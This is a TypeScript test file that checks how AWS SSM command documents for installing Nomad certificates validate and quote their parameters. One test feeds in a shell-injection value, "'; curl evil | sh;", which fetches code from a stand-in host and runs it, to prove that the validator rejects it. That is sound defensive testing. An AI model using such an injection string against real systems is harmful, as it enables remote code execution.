import { RE2JS } from 're2js';
import { describe, expect, it } from 'vitest';
import {
  commandDocument,
  DOCUMENT_SIZE_LIMIT_BYTES,
  DOCUMENTS,
  documentSizeBytes,
  installExecutionTimeoutSeconds,
  scriptText,
  validateDocumentParameters,
} from '../../shared/documents';
import { ValidationError } from '../../shared/errors';
import { PATTERNS } from '../../shared/patterns';
import { DEFAULT_FILES } from '../helpers/documents';

const prepare = {
  attemptId: 'abc123-0f0f0f0f',
  keyType: 'ec-p256',
  agentKeyPath: '/opt/nomad/agent-certs/agent.key',
  agentCertPath: '/opt/nomad/agent-certs/agent.crt',
  cliKeyPath: '/opt/nomad/cli-certs/cli.key',
  cliCertPath: '/opt/nomad/cli-certs/cli.crt',
};

describe('SSM documents', () => {
  it('give every parameter an allowedPattern and use every parameter in the script', () => {
    for (const kind of Object.keys(DOCUMENTS) as (keyof typeof DOCUMENTS)[]) {
      const document = commandDocument(kind);
      const script = scriptText(kind);

      expect(document.schemaVersion).toBe('2.2');
      for (const [name, parameter] of Object.entries(document.parameters)) {
        expect(parameter.allowedPattern, `${kind}.${name}`).toMatch(/^\^.*\$$/);
        const placeholder = new RegExp(`\\{\\{ ${name} \\}\\}`);
        expect(placeholder.test(script) || name === 'executionTimeout', `${kind} uses ${name}`).toBe(true);
      }
      const placeholders = [...script.matchAll(/\{\{ (\w+) \}\}/g)].map((match) => match[1]);
      for (const name of placeholders)
        expect(document.parameters, `${kind} declares ${name}`).toHaveProperty(name!);
    }
  });

  it('quote every parameter in single quotes, where a pattern-checked value cannot break out', () => {
    for (const kind of Object.keys(DOCUMENTS) as (keyof typeof DOCUMENTS)[]) {
      for (const line of scriptText(kind).split('\n')) {
        for (const match of line.matchAll(/(.)\{\{ \w+ \}\}(.)/g))
          expect(`${match[1]}${match[2]}`, line).toBe("''");
      }
      for (const parameter of Object.values(commandDocument(kind).parameters)) {
        expect(new RegExp(parameter.allowedPattern).test("a'b"), parameter.description).toBe(false);
      }
    }
  });

  it("compile every pattern under Go's RE2, as the SSM agent does before it runs a document", () => {
    for (const kind of Object.keys(DOCUMENTS) as (keyof typeof DOCUMENTS)[]) {
      for (const [name, parameter] of Object.entries(commandDocument(kind).parameters)) {
        expect(() => RE2JS.compile(parameter.allowedPattern), `${kind}.${name}`).not.toThrow();
      }
    }
    expect(() => RE2JS.compile('^[A-Za-z0-9+/=]{1,60000}$')).toThrow(/invalid repeat count/);
  });

  it('mean the same under RE2 and JavaScript for values at and past their edges', () => {
    const samples = [
      '',
      'a',
      "a'b",
      'server',
      'i-0123456789abcdef0',
      '/opt/nomad/x',
      '0640',
      'true',
      'QUJD+/=',
      'https://127.0.0.1:4646',
      'x\ny',
    ];
    for (const source of Object.values(PATTERNS)) {
      const re2 = RE2JS.compile(source);
      for (const sample of samples)
        expect(re2.matcher(sample).find(), `${source} on ${sample}`).toBe(new RegExp(source).test(sample));
    }
  });

  it('refuse a payload longer than the pattern allows, although RE2 patterns carry no such bound', () => {
    const attempt = () =>
      validateDocumentParameters('install', installParameters({ certificates: 'A'.repeat(60_001) }));

    expect(attempt).toThrow(/certificates: must match .* at most 60000 characters/);
  });

  it('count the whole document, chain and CA bundle included, against the 64 KB budget', () => {
    const fits = validateDocumentParameters(
      'install',
      installParameters({ certificates: 'A'.repeat(20_000) }),
    );
    const tooBig = () =>
      validateDocumentParameters(
        'install',
        installParameters({
          certificates: 'A'.repeat(20_000),
          chain: 'B'.repeat(20_000),
          caBundle: 'C'.repeat(20_000),
        }),
      );

    expect(documentSizeBytes('install', fits)).toBeGreaterThan(
      Buffer.byteLength(JSON.stringify(commandDocument('install'))) + 20_000,
    );
    expect(tooBig).toThrow(/parameters: document plus parameters come to \d+ bytes; at most \d+ allowed/);
    expect(DOCUMENT_SIZE_LIMIT_BYTES).toBe(65_536);
  });

  it('give the install enough time for the proof, a rollback and its proof before the agent kills it', () => {
    const timeout = installExecutionTimeoutSeconds(120, 3);

    expect(timeout).toBeGreaterThanOrEqual(2 * (120 + 3));
    expect(timeout).toBeLessThanOrEqual(172_800);
  });

  it('exit only 0 or 1: the agent reboots the instance on 194 and skips steps on 168/169', () => {
    for (const kind of Object.keys(DOCUMENTS) as (keyof typeof DOCUMENTS)[]) {
      const code = scriptText(kind)
        .split('\n')
        .filter((line) => !line.trim().startsWith('#'))
        .join('\n');
      const codes = [...code.matchAll(/\bexit\s+(\S+)/g)].map((match) => match[1]);
      expect(new Set(codes), kind).toEqual(new Set(['1', '0'].filter((code) => codes.includes(code))));
    }
  });

  it("start with #!/bin/bash on the first line, which the agent's sh -c <file> honours", () => {
    for (const kind of Object.keys(DOCUMENTS) as (keyof typeof DOCUMENTS)[])
      expect(commandDocument(kind).mainSteps[0].inputs.runCommand[0], kind).toBe('#!/bin/bash');
  });

  it('accept valid parameters and fill defaults', () => {
    const parameters = validateDocumentParameters('prepare', prepare);

    expect(parameters.keyType).toEqual(['ec-p256']);
    expect(parameters.executionTimeout).toEqual(['900']);
  });

  it('refuse a value that could inject shell, naming the parameter but not echoing the value', () => {
    const attempt = () =>
      validateDocumentParameters('prepare', { ...prepare, agentKeyPath: "/opt/x'; curl evil | sh; '" });

    expect(attempt).toThrow(ValidationError);
    expect(attempt).toThrow(/agentKeyPath: must match/);
    expect(attempt).not.toThrow(/curl evil/);
  });

  it('refuse unknown and missing parameters', () => {
    const { cliCertPath: _omitted, ...rest } = prepare;
    expect(() => validateDocumentParameters('prepare', { ...rest, extra: 'x' } as never)).toThrow(
      /extra: unknown parameter.*cliCertPath: required/,
    );
  });
});

function installParameters(overrides: Record<string, string>) {
  return {
    attemptId: 'abc123-0f0f0f0f',
    role: 'server',
    region: 'global',
    mode: 'reload',
    certificates: 'QUJD',
    chain: 'QUJD',
    caBundle: 'QUJD',
    minimumValiditySeconds: '600',
    healthTimeoutSeconds: '120',
    settleSeconds: '3',
    nomadAddress: 'https://127.0.0.1:4646',
    verifyHttpsClient: 'true',
    ...DEFAULT_FILES,
    ...overrides,
  } as Parameters<typeof validateDocumentParameters<'install'>>[1];
}
